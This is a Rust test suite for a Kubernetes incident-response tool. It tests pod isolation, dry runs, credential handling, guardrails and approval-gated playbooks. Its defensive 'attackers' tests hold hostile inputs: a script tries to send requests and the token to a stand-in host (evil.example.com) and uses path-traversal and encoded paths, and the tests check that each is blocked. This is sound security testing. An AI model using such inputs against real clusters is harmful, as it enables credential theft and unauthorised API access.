    s.fake.inject("patch", "pods", 429, 1).await;
    let error = s
        .integrations
        .fails(
            "label_pod",
            json!({ "namespace": "shop", "pod": "web-1", "labels": { "a": "b" } }),
        )
        .await;
    assert!(error.retryable, "{error:?}");
    // Then it works.
    s.integrations
        .ok(
            "label_pod",
            json!({ "namespace": "shop", "pod": "web-1", "labels": { "a": "b" } }),
        )
        .await;
}

// ---- dry run -----------------------------------------------------------------------------------

#[tokio::test]
async fn a_dry_run_shows_the_network_policy_and_the_patch_and_writes_nothing() {
    let s = Setup::new().await;
    seed_calico(&s.fake).await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    let mut call = call_for("isolate");
    call.dry_run = true;
    let plan = s
        .integrations
        .call(
            "kubernetes.isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1", "keep_dns": true }),
            &call,
        )
        .await
        .unwrap();
    let create = plan["create_policies"].as_array().unwrap();
    assert_eq!(create.len(), 2, "{plan}");
    assert_eq!(create[0]["kind"], "NetworkPolicy");
    assert_eq!(create[0]["metadata"]["name"], "cordon-quarantine");
    assert_eq!(
        create[0]["spec"]["policyTypes"],
        json!(["Ingress", "Egress"])
    );
    assert_eq!(create[1]["metadata"]["name"], "cordon-quarantine-dns");
    assert_eq!(
        plan["pod_patch"],
        json!({
            "method": "PATCH",
            "path": "/api/v1/namespaces/shop/pods/web-1",
            "content_type": "application/merge-patch+json",
            "patch": { "metadata": {
                "labels": { "cordon.io/quarantine": "isolated-dns" },
                "annotations": { "cordon.io/quarantined-by": "run-1/isolate" },
            } },
        })
    );
    let methods: Vec<String> = s
        .fake
        .requests()
        .await
        .iter()
        .map(|r| r["method"].as_str().unwrap().to_owned())
        .collect();
    assert!(methods.iter().all(|m| m == "GET"), "{methods:?}");
    assert!(
        s.fake
            .object(&policy_path("shop", "cordon-quarantine"))
            .await
            .is_none()
    );

    // The planned policy is what a real run then creates.
    s.integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1", "keep_dns": true }),
        )
        .await;
    let made = s
        .fake
        .object(&policy_path("shop", "cordon-quarantine"))
        .await
        .unwrap();
    assert_eq!(made["spec"], create[0]["spec"]);
    let plan = s
        .integrations
        .call(
            "kubernetes.isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
            &call,
        )
        .await
        .unwrap();
    assert_eq!(plan["create_policies"], json!([]), "it exists now: {plan}");
    assert_eq!(plan["existing_policies"], json!(["cordon-quarantine"]));

    // Every other write action plans too, and sends no write.
    let before = s.fake.requests().await.len();
    for (action, inputs) in [
        (
            "terminate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        ),
        (
            "label_pod",
            json!({ "namespace": "shop", "pod": "web-1", "labels": { "a": "b" } }),
        ),
        (
            "release_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        ),
    ] {
        let plan = s
            .integrations
            .call(&format!("kubernetes.{action}"), inputs, &call)
            .await;
        assert!(plan.is_ok(), "{action}: {plan:?}");
    }
    let after = s.fake.requests().await;
    assert!(
        after[before..].iter().all(|r| r["method"] == "GET"),
        "{:?}",
        &after[before..]
    );
    assert!(s.fake.object(&pod_path("shop", "web-1")).await.is_some());
}

// ---- auth and attackers ------------------------------------------------------------------------

/// An integration whose one action hands the test's request to kube() as it is, as a hostile or
/// buggy script would.
fn probe(dir: &Path) -> PathBuf {
    let folder = dir.join("kube-probe");
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(
        folder.join("manifest.yaml"),
        "name: kube-probe\ndescription: Sends what it is given.\nauth: { kind: kubernetes, credentials: kubernetes }\nactions:\n  send:\n    description: One kube() request.\n    kind: query\n    side_effect: false\n    idempotent: true\n    inputs:\n      request: { type: map, required: true }\n  fetch:\n    description: One http() request.\n    kind: query\n    side_effect: false\n    idempotent: true\n    inputs:\n      url: { type: string, required: true }\n",
    )
    .unwrap();
    std::fs::write(
        folder.join("actions.rhai"),
        "fn send(input) { kube(input.request) }\nfn fetch(input) { http(#{ url: input.url }) }\n",
    )
    .unwrap();
    folder
}

fn load_probe(fake: &FakeKube, dir: &Path) -> Integrations {
    let text = format!(
        "integrations:\n  paths: [{}]\n  credentials:\n    kubernetes:\n{}",
        probe(dir).display(),
        clusters_yaml(fake, dir)
    );
    let config = cordon::config::parse(&text, Path::new("test.yaml")).unwrap();
    Integrations::load(&config.integrations, reqwest::Client::new(), None).unwrap()
}

async fn probe_call(integrations: &Integrations, request: Value) -> Result<Value, ActionError> {
    integrations
        .call(
            "kube-probe.send",
            json!({ "request": request }),
            &call_for("probe"),
        )
        .await
}

#[tokio::test]
async fn a_script_cannot_send_a_request_or_the_token_anywhere_but_the_configured_cluster() {
    let s = Setup::new().await;
    let probe = load_probe(&s.fake, s.dir.path());
    let mut pod = web("shop", "web-1");
    // The API echoes the token (as an annotation here): the script and the output never see it.
    pod["metadata"]["annotations"] = json!({ "note": format!("token was {TOKEN}") });
    s.fake.seed(&[pod]).await;

    for (request, expected) in [
        (
            json!({ "path": format!("{}/api/v1/pods", s.fake.base) }),
            "must start with /api/ or /apis/",
        ),
        (
            json!({ "path": "https://evil.example.com/api/v1/pods" }),
            "must start with /api/ or /apis/",
        ),
        (
            json!({ "path": "//evil.example.com/api/v1/pods" }),
            "must start with /api/ or /apis/",
        ),
        (json!({ "path": "/api/v1/../../_fake/reset" }), "`..`"),
        (
            json!({ "path": "/api/v1/namespaces/shop/pods/web-1?watch=1" }),
            "may hold only",
        ),
        (json!({ "path": "/api/v1/pods/%2e%2e/x" }), "may hold only"),
        (
            json!({ "path": "/healthz" }),
            "must start with /api/ or /apis/",
        ),
        (
            json!({ "path": "/api/v1/pods", "cluster": "staging" }),
            "unknown cluster `staging`; the configured clusters are `prod`",
        ),
        (
            json!({ "path": "/api/v1/pods", "method": "CONNECT" }),
            "is not one of GET",
        ),
        (
            json!({ "path": "/api/v1/pods", "method": "POST", "json": {}, "content_type": "text/x-evil" }),
            "content_type",
        ),
    ] {
        let error = probe_call(&probe, request.clone()).await.unwrap_err();
        assert!(error.message.contains(expected), "{request}: {error:?}");
        assert!(!error.retryable, "{request}");
        assert!(!error.message.contains(TOKEN));
    }
    assert!(
        s.fake.requests().await.is_empty(),
        "none of them reached the API server"
    );

    // http() is not a way around it: the integration lists no hosts.
    let error = probe
        .call(
            "kube-probe.fetch",
            json!({ "url": format!("{}/api/v1/pods", s.fake.base) }),
            &call_for("probe"),
        )
        .await
        .unwrap_err();
    assert!(error.message.contains("is not in the hosts"), "{error:?}");
    assert!(s.fake.requests().await.is_empty());

    // A request that does reach it: whatever comes back holding the token is redacted.
    let answer = probe_call(
        &probe,
        json!({ "path": "/api/v1/namespaces/shop/pods/web-1" }),
    )
    .await
    .unwrap();
    assert!(!answer.to_string().contains(TOKEN), "{answer}");
    assert_eq!(
        answer["json"]["metadata"]["annotations"]["note"],
        "token was **redacted**"
    );
    let snapshot = s
        .integrations
        .ok(
            "snapshot_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert!(!snapshot.to_string().contains(TOKEN));
    let requests = s.fake.requests().await;
    assert!(
        requests
            .iter()
            .all(|r| r["user"] == "system:serviceaccount:cordon:cordon-responder")
    );

    // A refused token: the error says so without the token.
    s.fake.accept_tokens(&["another"]).await;
    let error = s
        .integrations
        .fails(
            "label_pod",
            json!({ "namespace": "shop", "pod": "web-1", "labels": { "a": "b" } }),
        )
        .await;
    assert!(error.message.contains("401 Unauthorized"), "{error:?}");
    assert!(!error.message.contains(TOKEN));
}

#[tokio::test]
async fn a_rotated_token_file_is_read_again_on_the_next_request() {
    let s = Setup::new().await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    let label = json!({ "namespace": "shop", "pod": "web-1", "labels": { "step": "one" } });
    s.integrations.ok("label_pod", label).await;
    // The kubelet rotates the projected token; the API server takes only the new one.
    std::fs::write(s.token_file(), "rotated-token-77aa\n").unwrap();
    s.fake.accept_tokens(&["rotated-token-77aa"]).await;
    s.integrations
        .ok(
            "label_pod",
            json!({ "namespace": "shop", "pod": "web-1", "labels": { "step": "two" } }),
        )
        .await;
    let pod = s.fake.object(&pod_path("shop", "web-1")).await.unwrap();
    assert_eq!(pod["metadata"]["labels"]["step"], "two");
    let refused = s
        .fake
        .requests()
        .await
        .iter()
        .filter(|r| r["status"] == 401)
        .count();
    assert_eq!(
        refused, 0,
        "the old token was never sent after the rotation"
    );
}

fn b64(path: &Path) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(std::fs::read(path).unwrap())
}

#[tokio::test]
async fn a_kubeconfig_context_with_a_client_certificate_reaches_its_cluster() {
    let s = Setup::new().await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    std::fs::copy(kube::pem("client.pem"), s.dir.path().join("client.pem")).unwrap();
    let kubeconfig = s.dir.path().join("kubeconfig");
    std::fs::write(
        &kubeconfig,
        format!(
            "apiVersion: v1\nkind: Config\ncurrent-context: admin@other\nclusters:\n- name: lab\n  cluster:\n    server: {}\n    certificate-authority-data: {}\n- name: other\n  cluster:\n    server: https://other.example.com\nusers:\n- name: cordon\n  user:\n    client-certificate: client.pem\n    client-key-data: {}\n- name: admin\n  user:\n    token: not-used\ncontexts:\n- name: cordon@lab\n  context: {{ cluster: lab, user: cordon }}\n- name: admin@other\n  context: {{ cluster: other, user: admin }}\n",
            s.fake.base,
            b64(&kube::pem("ca.pem")),
            b64(&kube::pem("client-key.pem")),
        ),
    )
    .unwrap();
    let integrations = load(&format!(
        "{}        lab:\n          kubeconfig: {}\n          context: cordon@lab\n",
        clusters_yaml(&s.fake, s.dir.path()),
        kubeconfig.display()
    ))
    .unwrap();
    let out = integrations
        .ok("label_pod", json!({ "cluster": "lab", "namespace": "shop", "pod": "web-1", "labels": { "via": "cert" } }))
        .await;
    assert_eq!(out["cluster"], "lab");
    let patch = &s.fake.calls("PATCH").await[0];
    assert_eq!(
        patch["user"], "cordon",
        "authenticated by the client certificate"
    );
}

#[tokio::test]
async fn the_in_cluster_service_account_is_used_with_its_files() {
    let s = Setup::new().await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    let integrations = load(&format!(
        "      clusters:\n        here:\n          in_cluster: true\n          server: {}\n          ca_file: {}\n          token_file: {}\n",
        s.fake.base,
        kube::pem("ca.pem").display(),
        s.token_file().display()
    ))
    .unwrap();
    let out = integrations
        .ok(
            "label_pod",
            json!({ "namespace": "shop", "pod": "web-1", "labels": { "a": "b" } }),
        )
        .await;
    assert_eq!(out["cluster"], "here", "the only cluster is the default");
    assert_eq!(
        s.fake.calls("PATCH").await[0]["user"],
        "system:serviceaccount:cordon:cordon-responder"
    );
}

#[tokio::test]
async fn bad_cluster_configs_are_refused_when_the_config_loads() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("token"), "t\n").unwrap();
    let write = |name: &str, user: &str| {
        let path = dir.path().join(name);
        std::fs::write(
            &path,
            format!(
                "apiVersion: v1\nkind: Config\ncurrent-context: c\nclusters:\n- name: k\n  cluster:\n    server: https://10.0.0.1:6443\n    certificate-authority-data: {}\nusers:\n- name: u\n  user:\n{user}contexts:\n- name: c\n  context: {{ cluster: k, user: u }}\n",
                b64(&kube::pem("ca.pem"))
            ),
        )
        .unwrap();
        path
    };
    let exec = write(
        "exec",
        "    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: aws\n      args: [eks, get-token, --cluster-name, prod]\n",
    );
    let provider = write("provider", "    auth-provider:\n      name: gcp\n");
    let basic = write(
        "basic",
        "    username: admin\n    password: hunter2-secret\n",
    );
    let cases = [
        (format!("          kubeconfig: {}\n", exec.display()), "gets its credentials by running `aws` (an exec plugin); Cordon does not run programs named in a kubeconfig"),
        (format!("          kubeconfig: {}\n", provider.display()), "auth-provider plugin"),
        (format!("          kubeconfig: {}\n", basic.display()), "removed basic auth"),
        (format!("          kubeconfig: {}\n          context: nope\n", exec.display()), "no context named `nope`"),
        (format!("          server: http://10.0.0.1:6443\n          token_file: {}\n", dir.path().join("token").display()), "is not https"),
        (format!("          server: https://10.0.0.1:6443\n          token_file: {}\n", dir.path().join("missing").display()), "cannot read the token file"),
        ("          server: https://10.0.0.1:6443\n".to_owned(), "has no credentials"),
        (format!("          server: https://10.0.0.1:6443\n          ca_file: {}\n          token: x\n", dir.path().join("token").display()), "holds no PEM certificate"),
        ("          in_cluster: true\n          server: https://10.0.0.1\n          token_file: /nonexistent\n          ca_file: /nonexistent\n".to_owned(), "cannot read the CA file /nonexistent"),
    ];
    for (cluster, expected) in cases {
        let error = load(&format!("      clusters:\n        prod:\n{cluster}")).unwrap_err();
        assert!(error.contains(expected), "{cluster}\n{error}");
        assert!(
            error.contains("integrations.credentials.kubernetes.clusters.prod"),
            "{error}"
        );
        assert!(!error.contains("hunter2-secret"), "{error}");
    }
    let error = load(&format!(
        "      default_cluster: staging\n      clusters:\n        prod:\n          server: https://10.0.0.1\n          token_file: {}\n",
        dir.path().join("token").display()
    ))
    .unwrap_err();
    assert!(
        error.contains("default_cluster is `staging`, which is not one of its clusters (`prod`)"),
        "{error}"
    );
}

#[tokio::test]
async fn a_server_certificate_from_another_ca_is_refused() {
    let s = Setup::new().await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    let integrations = load(&format!(
        "      clusters:\n        prod:\n          server: {}\n          ca_file: {}\n          token_file: {}\n",
        s.fake.base,
        kube::pem("other-ca.pem").display(),
        s.token_file().display()
    ))
    .unwrap();
    let error = integrations
        .fails(
            "label_pod",
            json!({ "namespace": "shop", "pod": "web-1", "labels": { "a": "b" } }),
        )
        .await;
    assert!(error.message.contains("certificate"), "{error:?}");
    assert!(!error.message.contains(TOKEN));
    assert!(
        s.fake.requests().await.is_empty(),
        "nothing was sent to a server Cordon does not trust"
    );
}

#[test]
fn the_actions_are_listed_with_their_kind_and_undo() {
    let (code, out, _) = cli(Path::new("none.yaml"), &["actions", "list", "--json"]);
    assert_eq!(code, 0);
    let specs: Vec<Value> = serde_json::from_str(&out).unwrap();
    let find = |name: &str| {
        specs
            .iter()
            .find(|s| s["name"] == name)
            .unwrap_or_else(|| panic!("{name} not listed"))
    };
    for (action, undo) in [
        ("label_pod", Some("unlabel_pod")),
        ("isolate_pod", Some("release_pod")),
        ("cordon_node", Some("uncordon_node")),
        ("scale_to_zero", Some("restore_scale")),
        ("terminate_pod", None),
        ("evict_pods", None),
        ("collect_pod_logs", None),
        ("snapshot_pod", None),
    ] {
        let spec = find(&format!("kubernetes.{action}"));
        assert_eq!(
            spec["undo"],
            json!(undo.map(|u| format!("kubernetes.{u}"))),
            "{spec}"
        );
        assert!(
            spec["inputs"]["cluster"].is_object(),
            "every action takes a cluster: {spec}"
        );
    }
    assert_eq!(find("kubernetes.collect_pod_logs")["kind"], "evidence");
    let (_, text, _) = cli(Path::new("none.yaml"), &["actions", "list"]);
    assert!(
        text.contains("kubernetes.isolate_pod  (side effect, idempotent)"),
        "{text}"
    );
}

// ---- through the server: guardrails and the stock playbooks ------------------------------------

/// The shared Falco fixture (a shell in pod default/kubecon), moved to `namespace`/`pod`.
fn falco_shell(namespace: &str, pod: &str) -> Vec<u8> {
    let mut event: Value = serde_json::from_slice(&read_fixture(
        "alerts/falco/falco_docs_json_output_shell_in_container.json",
    ))
    .unwrap();
    event["output_fields"]["k8s.ns.name"] = json!(namespace);
    event["output_fields"]["k8s.pod.name"] = json!(pod);
    serde_json::to_vec(&event).unwrap()
}

/// A server with `playbooks`, the on-call group, the integration pointed at the fake, and `extra`.
async fn server(s: &Setup, playbooks: &str, extra: &str) -> TestServer {
    let config = format!(
        "playbooks:\n  paths: [{playbooks}]\napprovers:\n  on-call: [cli:analyst, cli:lead]\n  admins: [cli:root]\n{}{extra}{}",
        integrations_yaml(&clusters_yaml(&s.fake, s.dir.path())),
        all_sources()
    );
    TestServer::start_with(&config).await
}

/// Waits until step `step` of the run waits for a decision (the run itself may still show the
/// previous one's "waiting" for a moment after a decision).
async fn wait_for_step(server: &TestServer, run: &str, step: &str) {
    server
        .wait_run(run, step, |r| r["steps"][step]["status"] == "waiting")
        .await;
}

async fn run_of(server: &TestServer, alert: Vec<u8>) -> String {
    let answer = server.accept("falco", alert).await;
    let alert_id = answer["alerts"][0]["alert_id"].as_str().unwrap().to_owned();
    server.run_for_alert(&alert_id).await
}

#[tokio::test]
async fn guardrails_refuse_a_protected_namespace_and_count_the_blast_radius() {
    let s = Setup::new().await;
    seed_calico(&s.fake).await;
    s.fake
        .seed(&[
            web("shop", "web-1"),
            web("shop", "web-2"),
            kube::pod("kube-system", "coredns-5d78c", "node-1", &["coredns"], None),
        ])
        .await;
    let playbooks = tempfile::tempdir().unwrap();
    write_playbook(
        playbooks.path(),
        "isolate",
        "id: k8s-isolate\nname: Isolate the pod\non:\n  source: falco\n  when: alert.resource.kind == \"k8s.pod\"\nsteps:\n  - id: isolate\n    uses: kubernetes.isolate_pod\n    with:\n      namespace: \"${{ alert.labels[\\\"k8s.ns.name\\\"] }}\"\n      pod: \"${{ alert.labels[\\\"k8s.pod.name\\\"] }}\"\n",
    );
    let server = server(
        &s,
        &playbooks.path().display().to_string(),
        "guardrails:\n  protected: [\"kube-system\"]\n  blast_radius:\n    kubernetes.isolate_pod: { max: 1, window: 1h }\n  blast_radius_approvers: admins\n",
    )
    .await;

    let run = run_of(&server, falco_shell("kube-system", "coredns-5d78c")).await;
    let done = server.wait_run(&run, "finished", finished).await;
    assert_eq!(done["run"]["status"], "failed", "{}", done["run"]);
    let error = done["run"]["steps"]["isolate"]["error"].as_str().unwrap();
    assert!(
        error.contains("protected resource") && error.contains("kube-system"),
        "{error}"
    );
    assert!(
        s.fake.calls("kube-system").await.is_empty(),
        "nothing was asked of the cluster"
    );

    let first = run_of(&server, falco_shell("shop", "web-1")).await;
    assert_eq!(
        server.wait_run(&first, "finished", finished).await["run"]["status"],
        "succeeded"
    );
    let second = run_of(&server, falco_shell("shop", "web-2")).await;
    let held = server
        .wait_run(&second, "held", |r| {
            r["steps"]["isolate"]["status"] == "waiting"
        })
        .await;
    let prompt = held["run"]["steps"]["isolate"]["approval"]["prompt"]
        .as_str()
        .unwrap();
    assert!(
        prompt.contains("blast radius of 1 calls per 1h"),
        "{prompt}"
    );
    let web2 = s.fake.object(&pod_path("shop", "web-2")).await.unwrap();
    assert!(
        web2["metadata"]["labels"]
            .get("cordon.io/quarantine")
            .is_none(),
        "held: not isolated yet"
    );
    let (status, body) = server
        .decide(&second, "isolate", "approve", "cli:root")
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        server.wait_run(&second, "finished", finished).await["run"]["status"],
        "succeeded"
    );
    let web2 = s.fake.object(&pod_path("shop", "web-2")).await.unwrap();
    assert_eq!(
        web2["metadata"]["labels"]["cordon.io/quarantine"],
        "isolated"
    );
}

/// The stock `k8s-falco-shell` run for the shared Falco fixture (pod default/kubecon), waiting
/// for its first approval once the evidence is taken.
async fn shell_run(s: &Setup) -> (TestServer, String) {
    seed_calico(&s.fake).await;
    let [deployment, replicaset] = kube::deployment("default", "kubecon", 2);
    s.fake
        .seed(&[
            deployment,
            replicaset,
            kube::pod(
                "default",
                "kubecon",
                "node-1",
                &["kubecon"],
                Some(("ReplicaSet", "kubecon-7d9f8b")),
            ),
            kube::node("node-1"),
        ])
        .await;
    s.fake
        .log(
            "default",
            "kubecon",
            "kubecon",
            false,
            "listening on :8080\n",
        )
        .await;
    let server = server(
        s,
        &repo("playbooks/k8s-falco-shell.yaml").display().to_string(),
        "",
    )
    .await;
    let run = run_of(
        &server,
        read_fixture("alerts/falco/falco_docs_json_output_shell_in_container.json"),
    )
    .await;
    let prompt = server.wait_prompt(&run, "contain").await;
    assert!(
        prompt.contains("pod default/kubecon") && prompt.contains("1 log(s), 19 bytes"),
        "{prompt}"
    );
    assert!(
        s.fake.calls("PATCH").await.is_empty(),
        "nothing is changed before the approval"
    );
    (server, run)
}

#[tokio::test]
async fn a_falco_shell_alert_takes_evidence_then_isolates_and_labels_the_pod_and_undo_releases_it()
{
    let s = Setup::new().await;
    let (server, run) = shell_run(&s).await;
    let (status, body) = server
        .decide(&run, "contain", "approve", "cli:analyst")
        .await;
    assert_eq!(status, 200, "{body}");
    wait_for_step(&server, &run, "terminate_approval").await;
    let pod = s
        .fake
        .object(&pod_path("default", "kubecon"))
        .await
        .unwrap();
    assert_eq!(
        pod["metadata"]["labels"]["cordon.io/quarantine"],
        "isolated"
    );
    assert_eq!(pod["metadata"]["labels"]["cordon.io/compromised"], "true");
    assert!(
        s.fake
            .object(&policy_path("default", "cordon-quarantine"))
            .await
            .is_some()
    );

    // The second approval is denied: the pod keeps running, isolated.
    let (status, _) = server
        .decide(&run, "terminate_approval", "deny", "cli:analyst")
        .await;
    assert_eq!(status, 200);
    let done = server.wait_run(&run, "finished", finished).await;
    assert_eq!(done["run"]["status"], "succeeded", "{}", done["run"]);
    assert!(
        s.fake
            .object(&pod_path("default", "kubecon"))
            .await
            .is_some()
    );

    // The evidence is on the incident, with its digests.
    let incident = done["run"]["incident_id"].as_str().unwrap();
    let shown = server.admin(&format!("/v1/incidents/{incident}")).await;
    let evidence = shown["incident"]["evidence"]
        .as_array()
        .unwrap_or_else(|| panic!("{shown}"));
    let kinds: Vec<&str> = evidence
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["pod-snapshot", "pod-log"], "{shown}");
    assert_eq!(evidence[1]["sha256"], sha256("listening on :8080\n"));

    // `cordon runs undo RUN isolate` and `... label`: the pod gets its network and labels back.
    let undo = server
        .undo(&run, "isolate", "cli:analyst", "cli:lead")
        .await;
    assert_eq!(undo["run"]["status"], "succeeded", "{undo}");
    let undo = server.undo(&run, "label", "cli:analyst", "cli:lead").await;
    assert_eq!(undo["run"]["status"], "succeeded", "{undo}");
    let pod = s
        .fake
        .object(&pod_path("default", "kubecon"))
        .await
        .unwrap();
    assert_eq!(pod["metadata"]["labels"], json!({ "app": "web" }), "{pod}");
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn a_second_approval_terminates_the_isolated_pod() {
    let s = Setup::new().await;
    let (server, run) = shell_run(&s).await;
    server
        .decide(&run, "contain", "approve", "cli:analyst")
        .await;
    wait_for_step(&server, &run, "terminate_approval").await;
    server
        .decide(&run, "terminate_approval", "approve", "cli:lead")
        .await;
    let done = server.wait_run(&run, "finished", finished).await;
    assert_eq!(done["run"]["status"], "succeeded", "{}", done["run"]);
    assert!(
        s.fake
            .object(&pod_path("default", "kubecon"))
            .await
            .is_none(),
        "the pod is gone"
    );
    assert_eq!(
        done["run"]["outputs"]["terminated"], true,
        "{}",
        done["run"]
    );
}

#[tokio::test]
async fn a_denied_shell_alert_leaves_the_pod_alone() {
    let s = Setup::new().await;
    let (server, run) = shell_run(&s).await;
    server.decide(&run, "contain", "deny", "cli:analyst").await;
    let done = server.wait_run(&run, "finished", finished).await;
    assert_eq!(done["run"]["status"], "succeeded");
    let pod = s
        .fake
        .object(&pod_path("default", "kubecon"))
        .await
        .unwrap();
    assert_eq!(pod["metadata"]["labels"], json!({ "app": "web" }));
    assert!(
        s.fake
            .object(&policy_path("default", "cordon-quarantine"))
            .await
            .is_none()
    );
}

#[tokio::test]
async fn a_crypto_miner_is_isolated_and_its_deployment_scaled_to_zero_and_both_are_undone() {
    let s = Setup::new().await;
    seed_calico(&s.fake).await;
    let [deployment, replicaset] = kube::deployment("shop", "web", 3);
    s.fake
        .seed(&[
            deployment,
            replicaset,
            web("shop", "web-7d9f8b-x2x4q"),
            kube::node("node-1"),
        ])
        .await;
    let server = server(
        &s,
        &repo("playbooks/k8s-falco-crypto-miner.yaml")
            .display()
            .to_string(),
        "",
    )
    .await;
    let fixture =
        std::fs::read(repo("playbooks/fixtures/falco-crypto-miner-stratum.json")).unwrap();
    let run = run_of(&server, fixture).await;
    let prompt = server.wait_prompt(&run, "contain").await;
    assert!(
        prompt.contains("stratum+tcp://pool.supportxmr.com:3333"),
        "{prompt}"
    );
    server
        .decide(&run, "contain", "approve", "cli:analyst")
        .await;
    let done = server.wait_run(&run, "finished", finished).await;
    assert_eq!(done["run"]["status"], "succeeded", "{}", done["run"]);
    assert_eq!(done["run"]["outputs"]["workload"], "Deployment/web");
    // The alert names cluster `prod` (k8s.cluster.name): the actions went there.
    assert_eq!(done["run"]["steps"]["isolate"]["output"]["cluster"], "prod");
    let deployment_path = "/apis/apps/v1/namespaces/shop/deployments/web";
    assert_eq!(
        s.fake.object(deployment_path).await.unwrap()["spec"]["replicas"],
        0
    );
    let pod = s
        .fake
        .object(&pod_path("shop", "web-7d9f8b-x2x4q"))
        .await
        .unwrap();
    assert_eq!(
        pod["metadata"]["labels"]["cordon.io/quarantine"],
        "isolated"
    );

    let undo = server.undo(&run, "scale", "cli:analyst", "cli:lead").await;
    assert_eq!(undo["run"]["status"], "succeeded", "{undo}");
    assert_eq!(
        undo["run"]["steps"]["undo"]["action"],
        "kubernetes.restore_scale"
    );
    let deployment = s.fake.object(deployment_path).await.unwrap();
    assert_eq!(deployment["spec"]["replicas"], 3);
    assert!(
        deployment["metadata"]["annotations"]
            .get("cordon.io/previous-replicas")
            .is_none()
    );
    let undo = server
        .undo(&run, "isolate", "cli:analyst", "cli:lead")
        .await;
    assert_eq!(undo["run"]["status"], "succeeded", "{undo}");
    let pod = s
        .fake
        .object(&pod_path("shop", "web-7d9f8b-x2x4q"))
        .await
        .unwrap();
    assert!(
        pod["metadata"]["labels"]
            .get("cordon.io/quarantine")
            .is_none()
    );
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn other_policies_that_still_let_traffic_reach_the_pod_are_named() {
    let s = Setup::new().await;
    seed_calico(&s.fake).await;
    let policy = |name: &str, selector: Value| {
        json!({
            "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
            "metadata": { "name": name, "namespace": "shop" },
            "spec": { "podSelector": selector, "policyTypes": ["Ingress"], "ingress": [{ "from": [{ "podSelector": {} }] }] },
        })
    };
    s.fake
        .seed(&[
            web("shop", "web-1"),
            policy("allow-web", json!({ "matchLabels": { "app": "web" } })),
            policy("allow-all-pods", json!({})),
            policy("allow-db", json!({ "matchLabels": { "app": "db" } })),
            policy("allow-unquarantined", json!({ "matchExpressions": [{ "key": "cordon.io/quarantine", "operator": "DoesNotExist" }] })),
        ])
        .await;
    let out = s
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert_eq!(
        out["other_policies"],
        json!(["allow-all-pods", "allow-web"])
    );
    let warning = out["warning"].as_str().unwrap();
    assert!(
        warning.contains("other NetworkPolicies select the pod") && warning.contains("allow-web"),
        "{warning}"
    );
}
